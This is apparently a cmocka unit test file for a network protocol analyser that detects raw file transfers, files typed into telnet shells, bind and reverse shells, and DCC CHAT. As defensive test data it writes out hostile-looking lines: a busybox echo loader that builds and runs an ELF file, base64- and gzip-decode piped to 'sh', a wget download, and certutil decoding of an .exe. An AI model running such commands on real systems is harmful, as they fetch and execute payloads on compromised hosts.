/* SPDX-License-Identifier: Apache-2.0 */
/* Files over bare TCP, files that are typed into shells, shells over bare TCP, DCC CHAT. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <time.h>

#include <cmocka.h>

#include "proto/paste.h"
#include "proto_kit.h"

#define C(text)                           \
	{                                 \
		0, text, sizeof(text) - 1 \
	}
#define S(text)                           \
	{                                 \
		1, text, sizeof(text) - 1 \
	}
#define CHECK(info, parts, expected) \
	kit_check(info, parts, sizeof(parts) / sizeof((parts)[0]), expected)

static const struct proto_flow_info any = { .ip_proto = 6, .port = { 4000, 4444 } };

static int show_logins(void **state)
{
	(void)state;
	kit_show_logins = true;
	return 0;
}

/* ---- files over bare TCP ---- */

#define DOTS ".........."

static void test_raw_file(void **state)
{
	static const struct kit_part elf[] = { C("\x7f"
						 "ELF\1\1\1\0and so on\0\0\0") };
	static const struct kit_part answer[] = { S("#!/bin/sh\nid\n"), C("\1\2\3") };
	static const struct kit_part behind[] = { C("kit v1\r\n\x1f\x8b\x08\0\1\2\3\4\5\6"),
		S("ok\n") };
	/* Behind its size, of four bytes. */
	static const struct kit_part stage[] = { S("\x5c\0\0\0MZARUH" DOTS DOTS DOTS DOTS DOTS
						   "....\x40\0\0\0PE\0\0" DOTS DOTS "....") };
	static const struct kit_part sized[] = { C("\0\0\1\x14\x7f"
						   "ELF\1\1\1\0and so on\0\0\0") };
	/* What is said behind it is not of it. */
	static const struct kit_part more[] = { C("\x50\0\0\0\x7f"
						  "ELF\1\1\1\0" DOTS DOTS DOTS DOTS DOTS DOTS DOTS
						  "..id\n"),
		C("exit\n") };
	static const struct kit_part both[] = { C("PK\3\4abc"), S("Rar!\x1a\x07\0x") };

	(void)state;
	CHECK(&any, elf, "file  20\nraw-file \"raw_file\":{\"type\":\"elf\"}\n");
	CHECK(&any, answer, "file  13\nraw-file \"raw_file\":{\"type\":\"script\"}\n");
	CHECK(&any, behind,
		"file  10\nraw-file \"raw_file\":{\"type\":\"gzip\",\"header\":\"kit v1\"}\n");
	CHECK(&any, stage, "file  92\nraw-file \"raw_file\":{\"type\":\"pe\"}\n");
	CHECK(&any, sized, "file  20\nraw-file \"raw_file\":{\"type\":\"elf\"}\n");
	CHECK(&any, more, "file  80\nraw-file \"raw_file\":{\"type\":\"elf\"}\n");
	CHECK(&any, both,
		"file  7\nraw-file \"raw_file\":{\"type\":\"zip\"}\n"
		"file  8\nraw-file \"raw_file\":{\"type\":\"rar\"}\n");
}

/* What is said behind a stage begins anew. */
static void test_raw_file_and_tls(void **state)
{
	static uint8_t stage[4 + 8192] = "\0\x20\0\0\x7f"
					 "ELF\1\1\1";
	const struct kit_part parts[] = { { 1, stage, sizeof(stage) },
		C("\x16\3\1\0\5\1\0\0\1\0") };

	(void)state;
	CHECK(&any, parts,
		"file  8192\nraw-file \"raw_file\":{\"type\":\"elf\"}\n"
		"tls - !tls.handshake_invalid_length\n");
}

/* Its name says nothing: the connection is called failed. */
static void test_raw_file_is_unnamed(void **state)
{
	struct proto_conn *conn = kit_open(&any);

	(void)state;
	kit_out = out_make(kit_text, sizeof(kit_text));
	kit_feed(conn, 0,
		(const uint8_t *)"\x7f"
				 "ELF\1\1\1\0",
		8);
	assert_int_equal(proto_conn_app(conn), PROTO_FAILED);
	assert_int_equal(proto_conn_id(conn, 0), PROTO_FAILED);
	proto_gap(conn, 0, 100);
	proto_end(conn, 0);
	proto_end(conn, 1);
	assert_string_equal(kit_text, "file  8 cut\nraw-file \"raw_file\":{\"type\":\"elf\"}\n");
	proto_conn_free(conn);
}

static void check_gap(
	const struct proto_flow_info *info, const char *first, uint64_t gap, const char *expected)
{
	struct proto_conn *conn = kit_open(info);

	kit_out = out_make(kit_text, sizeof(kit_text));
	kit_feed(conn, 0, (const uint8_t *)first, strlen(first));
	proto_gap(conn, 0, gap);
	kit_feed(conn, 0, (const uint8_t *)"tail", 4);
	proto_end(conn, 0);
	proto_end(conn, 1);
	assert_string_equal(kit_text, expected);
	proto_conn_free(conn);
}

/* Bytes that were not seen leave a hole, and what comes behind it is where it belongs. */
static void test_file_with_a_hole(void **state)
{
	static const struct proto_expect expected = { .proto = PROTO_FTP_DATA,
		.ip_proto = 6,
		.listens = 1,
		.command = "STOR",
		.name_len = 1,
		.name = "f" };
	static const struct proto_flow_info data = {
		.ip_proto = 6, .port = { 4000, 5050 }, .expected = &expected
	};

	(void)state;
	check_gap(&any, "#!/bin/sh\n", 100,
		"file  114\nraw-file \"raw_file\":{\"type\":\"script\"}\n");
	check_gap(&any, "#!/bin/sh\n", UINT32_MAX,
		"file  10 cut\nraw-file \"raw_file\":{\"type\":\"script\"}\n");
	check_gap(&data, "head", 100,
		"file f 108\nftp-data \"ftp_data\":{\"filename\":\"f\",\"command\":\"STOR\"}\n");
}

static void test_no_raw_file(void **state)
{
	static const struct proto_flow_info midstream = { .ip_proto = 6, .midstream = true };
	static const struct kit_part no_elf[] = { C("\x7f"
						    "ELF\7\1\1\0and so on") };
	static const struct kit_part no_pe[] = { C(
		"MZ and then nothing of that kind at all, as it goes on and on") };
	static const struct kit_part no_script[] = { C("#!shebang\n") };
	static const struct kit_part no_size[] = { C("\xff\xff\xff\xff\x7f"
						     "ELF\1\1\1\0and so on\0\0\0") };
	static const struct kit_part elf[] = { C("\x7f"
						 "ELF\1\1\1\0and so on\0\0\0") };

	(void)state;
	CHECK(&any, no_elf, "");
	CHECK(&any, no_pe, "");
	CHECK(&any, no_script, "");
	CHECK(&any, no_size, "");
	CHECK(&midstream, elf, "");
}

/* ---- files that are typed ---- */

#define LOGIN S("\xff\xfb\x01# ")

static void test_loader(void **state)
{
	static const struct kit_part parts[] = { LOGIN,
		C(">.d\r\necho -ne \"\\x7f\\x45\" > .d\r\n"), S("\r\n# "),
		C("/bin/busybox echo -en '\\x4c\\x46' >> .d; /bin/busybox X\r\n"),
		S("X: not found\r\n# "), C("printf '\\001\\2%s%%' hello>>.d && ./.d\r\n"),
		S("# ") };

	(void)state;
	CHECK(&any, parts,
		"telnet \"telnet\":{\"command\":\">.d\",\"output\":\"\"}\n"
		"telnet \"telnet\":{\"command\":\"echo -ne \\\"\\\\x7f\\\\x45\\\" > "
		".d\",\"output\":\"#\"}\n"
		"telnet \"telnet\":{\"command\":\"/bin/busybox echo -en '\\\\x4c\\\\x46' >> .d; "
		"/bin/busybox X\","
		"\"output\":\"X: not found\\r\\n#\"}\n"
		"telnet \"telnet\":{\"command\":\"printf '\\\\001\\\\2%s%%' hello>>.d && "
		"./.d\",\"output\":\"#\"}\n"
		"file .d 12\n");
}

/* Only the files. */
static const char *files_of(const struct kit_part *parts, size_t n)
{
	static char files[4096];
	struct out o = out_make(files, sizeof(files));

	kit_run(&any, parts, n, 0, SIZE_MAX);
	for (char *at = kit_text, *end; (end = strchr(at, '\n')); at = end + 1)
		if (strncmp(at, "file ", 5) == 0)
			out_bytes(&o, at + 5, (size_t)(end + 1 - at - 5));
	assert_true(out_ok(&o));
	return files;
}

static void check_typed(const char *typed, const char *expected)
{
	const struct kit_part parts[] = { LOGIN, { 0, typed, strlen(typed) }, S("# ") };

	assert_string_equal(files_of(parts, 3), expected);
	kit_check(&any, parts, 3, NULL);
}

/* What is not all known says nothing. */
static void check_code(void)
{
	check_typed("python -c 'print \"a\" * 9; print(\"b\")' > f; python -c 'x(\"a\")' > g\n",
		"f 2\n");
	check_typed(
		"python -c 'print \"a\" + x' > f; python -c 'print(\"a\"' > g; python x.py > h\n",
		"");
	check_typed("python -c "
		    "\"f=open('a','w');f.write('1');f.write('2');f=open('b');f.write('3')\"\n",
		"a 2\n");
	check_typed("python -c \"open('a').write('1');open(x,'w').write('2')\"\n", "");
	check_typed("python -c \"print [1, 0x41, 256]; print [65,0x41],\" > f\n", "f 2\n");
	check_typed("python -c \"import os\nopen('a','w').write(r'\\\\x41')\"\n", "a 4\n");
	check_typed("echo 'print(1);print(\"a\")' | python > f\n", "f 2\n");
	check_typed(
		"perl -e 'print \"$x\"; print STDERR \"a\"; print STDOUT \"ab\"' > f\n", "f 2\n");
	check_typed(
		"perl -e 'open F, \"<x\"; print F \"a\"; open F, \">>x\"; print F \"b\".\"c\"'\n",
		"x 2\n");
	check_typed("perl -e 'print pack(\"C*\",1); print pack(\"H*\",\"6\"); print \\'\\x41\\''\n",
		"");
	check_typed(
		"php -r 'file_put_contents(\"a\",\"1\");file_put_contents(\"a\",\"2\",FILE_APPEND);"
		"file_put_contents(\"b\",\"1\".x());fwrite(fopen(\"c\",\"a\"),\"x\");echo 1;'\n",
		"a 2\nc 1\n");
	check_typed("python -c 'print((((((((((\"a\"))))))))))' > f\n", "");
	check_typed("python -c 'eval(\"a\");exec(\"YQ==\".decode(\"base64\"))'\n", " 1\n");
	check_typed("sh -c 'echo 1 > a'; sh -c \"sh -c 'sh -c \\\"echo 2 > b\\\"'\"\n", "a 2\n");
	check_typed("sh -c 'cat > x << E'\n1\nE\necho 1 | dd of=y; echo 2 | dd seek=1 of=y\n",
		"x 2\ny 2\n");
}

static void test_typed(void **state)
{
	(void)state;
	check_typed("base64 -d > k << EOF\naGVs\nbG8=\nEOF\nsh k\n", "k 5\n");
	check_typed("cat <<-'E' | base64 -d | tee -a k\n\taGVsbG8=\n\tE\n", "k 5\n");
	check_typed("cat > a << E\n\\$1 \\\\ \\n \\`\nx\\\nE\nE\necho b > b\n", "a 13\nb 2\n");
	check_typed("cat > a << 'E'\n\\$1\nE\ncat > b << \\E\n\\\\\nE\n", "a 4\nb 3\n");
	check_typed("cat > a <<< 'b c'; tee d <<< e > /dev/null\n", "a 4\nd 2\n");
	check_typed("echo aGVsbG8= | base64 -d | sh\n", " 5\n");
	check_typed("echo \"aGVs\nbG8=\" | openssl enc -base64 -d -out k\n", "k 5\n");
	check_typed("echo 'a\n\nb\\' > f; echo \"c\\\nd\\\"\n\" > g\n", "f 6\ng 5\n");
	check_typed(
		"echo H4sIAAAAAAACA8tIzcnJBwCGphA2BQAAAA== | base64 -d | gzip -dc > k\n", "k 5\n");
	check_typed("echo H4sIAAAAAAACA8tIzcnJBwCGphA2BQAAAA== | base64 -d > k.gz; gunzip k.gz; "
		    "echo aGVs | zcat > n\n",
		"k 5\nk.gz 25\n");
	check_typed("echo H4sIAAAAAAACA8tIzcnJBwCGphA2BQAAAA== | base64 -d | zcat | sh\n", " 5\n");
	check_typed("echo -----BEGIN X----- > c; echo aGVs >> c; certutil /decode -f c k.exe; "
		    "certutil -decode c\n",
		"k.exe 3\nc 23\n");
	check_typed("begin 644 my file\n#86)C\n`\nend\n", "my file 3\n");
	check_typed("begin 644 f\n#86)C\nnot of it: \x7f\n", "f 3 cut\n");
	check_typed("begin-base64 755 f\naGVsbG8=\n====\n", "f 5\n");
	check_typed("uudecode\nbegin 644 f\n#86)C\n`\nend\n\4 id\n", "f 3\n");
	check_typed("cat > a\none\n\ntwo\n\4echo 1 > b; echo 2 >> b\n", "a 9\nb 4\n");
	check_typed("cat > a\none\n\x03"
		    "echo 1 > b\n",
		"b 2\n");
	check_typed("cat > a << X\none\n", "a 4 cut\n");
	check_typed("echo a>1; echo b 2>/dev/null; echo c >&2; echo d > /dev/null; echo e &>> f\n",
		"1 2\nf 2\n");
	check_typed("A=1 sudo echo -n $'\\x41\\'' > 'a b'\"c\"\\ d\n", "a bc d 2\n");
	check_typed("wget http://h/x -O y; cat y > z; cp y z\n", "");
	check_typed("echo 6869 | xxd -r -p > h\n", "h 2\n");
	check_typed("echo -e 'a\\0101\\tb\\c' zzz > e\n", "e 4\n");
	check_code();
	check_typed("printf '%s-%b\\n' a '\\x41' b > p\n", "p 7\n");
	check_typed("echo n!o > b64; base64 -d b64 > c; base64 -d <<< !!! > d\n", "b64 4\n");
}

/* More than is kept, more files than are followed, quotes without an end: bounded, and nothing is lost. */
static void test_typed_limits(void **state)
{
	static char lines[400000], names[8000], text[2000];
	struct out o = out_make(lines, sizeof(lines)), n = out_make(names, sizeof(names));
	const struct kit_part large[] = { LOGIN, { 0, lines, 0 } };
	struct kit_part parts[2] = { large[0], large[1] };

	(void)state;
	memset(text, 'a', sizeof(text) - 1);
	for (unsigned i = 0; i < 100; i++)
		out_fmt(&o, "echo %s >> f\n", text);
	parts[1].len = o.len;
	assert_string_equal(files_of(parts, 2), "f 200000\n");
	for (unsigned i = 0; i < 20; i++)
		out_fmt(&n, "echo %u > n%u\n", i % 10, i);
	parts[1] = (struct kit_part){ 0, names, n.len };
	files_of(parts, 2);
	for (unsigned i = 0; i < 20; i++) {
		char line[32];

		snprintf(line, sizeof(line), "file n%u 2\n", i);
		assert_non_null(strstr(kit_text, line));
	}
	o = out_make(lines, sizeof(lines));
	out_str(&o, "echo '");
	while (o.len < 300000)
		out_fmt(&o, "%s\n", text);
	out_str(&o, "' > x\necho 1 > y\n");
	parts[1] = (struct kit_part){ 0, lines, o.len };
	assert_non_null(strstr(files_of(parts, 2), "y 2\n"));
}

/* 80,000 bytes that become files "c..." again and again: what nobody has typed is not made without end. */
static void expect_few_copies(struct out *typed)
{
	struct kit_part parts[] = { LOGIN, { 0, typed->at, 0 } };
	unsigned copies = 0;

	out_str(typed, "echo 1 > y\n");
	assert_true(out_ok(typed));
	parts[1].len = typed->len;
	kit_run(&any, parts, 2, 0, SIZE_MAX);
	for (const char *at = kit_text; (at = strstr(at, "\nfile c")); at++)
		copies++;
	assert_int_equal(copies, PASTE_MADE_MAX / 80000);
	assert_non_null(strstr(kit_text, "\nfile y 2\n"));
}

/* A file that is copied. */
static void test_typed_copies(void **state)
{
	static char lines[150000], text[2000];
	struct out o = out_make(lines, sizeof(lines));

	(void)state;
	memset(text, 'a', sizeof(text) - 1);
	for (unsigned i = 0; i < 40; i++)
		out_fmt(&o, "echo %s >> f\n", text);
	for (unsigned i = 0; i < 500; i++)
		out_str(&o, "cat f > c\n");
	expect_few_copies(&o);
}

/* One text through many pipes, each of which writes it to a file. */
static void test_typed_tees(void **state)
{
	static char lines[150000], text[1000];
	struct out o = out_make(lines, sizeof(lines));

	(void)state;
	memset(text, 'a', sizeof(text) - 1);
	out_str(&o, "cat <<E");
	for (unsigned i = 0; i < 500; i++)
		out_fmt(&o, " | tee -a c%u", i);
	out_str(&o, "\n");
	for (unsigned i = 0; i < 80; i++)
		out_fmt(&o, "%s\n", text);
	out_str(&o, "E\n");
	expect_few_copies(&o);
}

/* Seconds of the processor that what is typed takes, whoever may be told of it. */
static double time_of(const char *typed, size_t len)
{
	static const struct proto_setup nobody = { 0 };
	static const char prompt[] = "\xff\xfb\x01# ";
	struct timespec from, to;
	struct proto_conn *conn;

	assert_int_equal(proto_conn_new(&nobody, &any, &conn), 0);
	kit_feed(conn, 1, (const uint8_t *)prompt, sizeof(prompt) - 1);
	clock_gettime(CLOCK_PROCESS_CPUTIME_ID, &from);
	kit_feed(conn, 0, (const uint8_t *)typed, len);
	clock_gettime(CLOCK_PROCESS_CPUTIME_ID, &to);
	proto_conn_free(conn);
	return (double)(to.tv_sec - from.tv_sec) + (double)(to.tv_nsec - from.tv_nsec) / 1e9;
}

/* So many quotes that do not end, each of so many bytes of such lines. */
static double time_of_quotes(const char *line, size_t quotes, size_t bytes)
{
	static char typed[1 << 17];
	struct out o = out_make(typed, sizeof(typed));

	for (size_t i = 1; i <= quotes; i++) {
		out_str(&o, "\3\necho \"");
		while (o.len < i * bytes)
			out_fmt(&o, "%s\n", line);
	}
	assert_true(out_ok(&o));
	return time_of(typed, o.len);
}

/* What a line costs does not grow with what was typed before it. */
static void test_typed_cheaply(void **state)
{
	static const char *const lines[] = { "a", "a\"\"", "a\\\"", "a\" \"" };

	(void)state;
	for (size_t i = 0; i < sizeof(lines) / sizeof(lines[0]); i++) {
		double s = time_of_quotes(lines[i], 15, 4000);
		double all = time_of_quotes(lines[i], 1, 60000);

		print_message("%s: %.3f s, at once %.3f s\n", lines[i], s, all);
		assert_true(all < 3 * s);
	}
}

/* ---- shells over bare TCP ---- */

static void test_bind_shell(void **state)
{
	static const struct kit_part parts[] = { C("id\n"), S("uid=0(root) gid=0(root)\n"),
		C("cat > f\nhi\n\4pwd\n"), S("/\n") };

	(void)state;
	CHECK(&any, parts,
		"shell \"shell\":{\"command\":\"id\",\"output\":\"uid=0(root) gid=0(root)\"}\n"
		"shell \"shell\":{\"command\":\"cat > f\",\"output\":\"\"}\n"
		"shell \"shell\":{\"command\":\"hi\",\"output\":\"\"}\n"
		"shell \"shell\":{\"command\":\"\\u0004pwd\",\"output\":\"/\"}\n"
		"file f 3\n");
}

static void test_reverse_shell(void **state)
{
	static const struct kit_part parts[] = {
		C("Microsoft Windows [Version 6.1.7601]\r\n\r\nC:\\>"), S("net user\n"),
		C("net user\r\nbob\r\n\r\nC:\\>"), S("su\n"), C("Password: "), S("x\n"),
		C("\r\nC:\\>")
	};

	(void)state;
	CHECK(&any, parts,
		"shell \"shell\":{\"command\":\"net "
		"user\",\"output\":\"bob\\r\\n\\r\\nC:\\\\>\",\"reverse\":true}\n"
		"shell \"shell\":{\"command\":\"su\",\"output\":\"Password:\",\"reverse\":true}\n"
		"login password - x - success\n");
}

/* Without a prompt: the answers are what was asked for. */
static void test_silent_shell(void **state)
{
	static const struct kit_part parts[] = { S("whoami\n"), C("www-data\n"), S("ls\n"),
		C("index.php\n") };
	static const struct kit_part where[] = { S("pwd\n"), C("/var/www\n") };

	(void)state;
	CHECK(&any, parts,
		"shell "
		"\"shell\":{\"command\":\"whoami\",\"output\":\"www-data\",\"reverse\":true}\n"
		"shell \"shell\":{\"command\":\"ls\",\"output\":\"index.php\",\"reverse\":true}\n");
	CHECK(&any, where,
		"shell \"shell\":{\"command\":\"pwd\",\"output\":\"/var/www\",\"reverse\":true}\n");
}

static void test_no_raw_shell(void **state)
{
	static const struct kit_part hello[] = { C("whoami\n"), S("you are not known here!\n") };
	static const struct kit_part finger[] = { C("root\r\n"),
		S("Name: root\r\nShell: /bin/sh\r\nNo Plan.\r\n") };
	static const struct kit_part list[] = { S(
		"drwxr-xr-x 2 0 0 4096 pub\r\n-rw-r--r-- 1 0 0 1 f\r\n") };
	static const struct kit_part binary[] = { C("id\n"), S("uid=0(root) gid=0(root)\n\0\1\2") };

	(void)state;
	CHECK(&any, hello, "");
	CHECK(&any, finger, "");
	CHECK(&any, list, "");
	CHECK(&any, binary, NULL);
}

/* ---- DCC CHAT ---- */

static void test_dcc_chat(void **state)
{
	static const struct proto_expect expected = { .proto = PROTO_DCC,
		.ip_proto = 6,
		.command = "CHAT",
		.name_len = 3,
		.name = "eve",
		.peer_len = 3,
		.peer = "bob" };
	static const struct proto_flow_info info = {
		.ip_proto = 6, .port = { 4000, 5050 }, .expected = &expected
	};
	static const struct kit_part parts[] = { S("hi\r\n\r\n"), C("GET / HTTP/1.0\r\n"),
		S("\xff\xfe\n"), C("bye") };
	static char line[9000];
	const struct kit_part cut[] = { { 0, line, sizeof(line) }, C("\nx\n") };

	(void)state;
	CHECK(&info, parts,
		"dcc "
		"\"chat\":{\"kind\":\"message\",\"nick\":\"eve\",\"to\":\"bob\",\"text\":\"hi\"}\n"
		"dcc \"chat\":{\"kind\":\"message\",\"nick\":\"bob\",\"to\":\"eve\",\"text\":\"GET "
		"/ HTTP/1.0\"}\n"
		"dcc "
		"\"chat\":{\"kind\":\"message\",\"nick\":\"eve\",\"to\":\"bob\",\"text\":"
		"\"\\ufffd\\ufffd\"}\n"
		"dcc "
		"\"chat\":{\"kind\":\"message\",\"nick\":\"bob\",\"to\":\"eve\",\"text\":\"bye\"}"
		"\n");
	memset(line, 'a', sizeof(line));
	kit_run(&info, cut, 2, 0, SIZE_MAX);
	assert_non_null(strstr(kit_text, "\"cut\":true} !irc.line_too_long\n"));
	assert_non_null(strstr(kit_text, "\"text\":\"x\"}\n"));
}

/* ---- what is told as text ---- */

static char text_told[4096];
static struct out text_out;

static void on_text(void *context, const struct proto_text *text)
{
	(void)context;
	out_fmt(&text_out, "%s %d %u %lld ",
		text->proto == PROTO_FAILED ? "failed" : proto_name(text->proto), text->kind,
		text->side, (long long)text->time_ns);
	if (text->kind == PROTO_TEXT_WINDOW)
		out_fmt(&text_out, "%ux%u", text->columns, text->rows);
	else
		out_quoted(&text_out, (const char *)text->bytes, text->len);
	out_char(&text_out, '\n');
}

static const char *text_of(const struct kit_part *parts, size_t n)
{
	static const struct proto_setup setup = { .on_text = on_text };
	struct proto_conn *conn;

	assert_int_equal(proto_conn_new(&setup, &any, &conn), 0);
	text_out = out_make(text_told, sizeof(text_told));
	for (size_t i = 0; i < n; i++)
		proto_feed(conn, parts[i].side, parts[i].bytes, parts[i].len, (int64_t)i + 1);
	proto_end(conn, 0);
	proto_end(conn, 1);
	proto_conn_free(conn);
	return text_told;
}

/* Without options, with the time at which it came, each byte once. */
static void test_text(void **state)
{
	static const struct kit_part telnet[] = { S("\xff\xfd\x1flog\xff\xfb\1in: "),
		C("\xff\xfa\x1f\0\x50\0\x18\xff\xf0\xff\xfa\x18\0vt100\xff\xf0"
		  "a\r\0") };
	static const struct kit_part shell[] = { C("bash: no job control in this shell\n$ "),
		S("id\n"), C("uid=0\n$ ") };
	static const struct kit_part unknown[] = { C("hello\n"), S("\1\2"), C("x") };
	static const struct kit_part smtp[] = { S("220 h ESMTP\r\n"), C("EHLO x\r\n"),
		S("250-h\r\n250 STARTTLS\r\n"), C("STARTTLS\r\n"), S("220 go\r\n"), C("id\n") };

	(void)state;
	assert_string_equal(text_of(telnet, 2),
		"telnet 1 1 1 login: \ntelnet 2 0 2 80x24\ntelnet 3 0 2 vt100\n"
		"telnet 0 0 2 a\\x0d\n");
	assert_string_equal(text_of(shell, 3),
		"shell 1 0 1 bash: no job control in this shell\\x0a$ \n"
		"shell 0 1 2 id\\x0a\nshell 1 0 3 uid=0\\x0a$ \n");
	assert_string_equal(text_of(unknown, 3),
		"failed 0 0 1 hello\\x0a\nfailed 1 1 2 \\x01\\x02\nfailed 0 0 3 x\n");
	text_of(smtp, 6);
	assert_null(strstr(strstr(text_told, "STARTTLS\\x0d\\x0a\n") + 1, "220 h"));
	assert_non_null(strstr(text_told, "id\\x0a\n"));
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_raw_file),
		cmocka_unit_test(test_raw_file_and_tls),
		cmocka_unit_test(test_raw_file_is_unnamed),
		cmocka_unit_test(test_file_with_a_hole),
		cmocka_unit_test(test_no_raw_file),
		cmocka_unit_test(test_loader),
		cmocka_unit_test(test_typed),
		cmocka_unit_test(test_typed_limits),
		cmocka_unit_test(test_typed_copies),
		cmocka_unit_test(test_typed_tees),
		cmocka_unit_test(test_typed_cheaply),
		cmocka_unit_test(test_bind_shell),
		cmocka_unit_test(test_reverse_shell),
		cmocka_unit_test(test_silent_shell),
		cmocka_unit_test(test_no_raw_shell),
		cmocka_unit_test(test_dcc_chat),
		cmocka_unit_test(test_text),
	};

	return cmocka_run_group_tests(tests, show_logins, NULL);
}
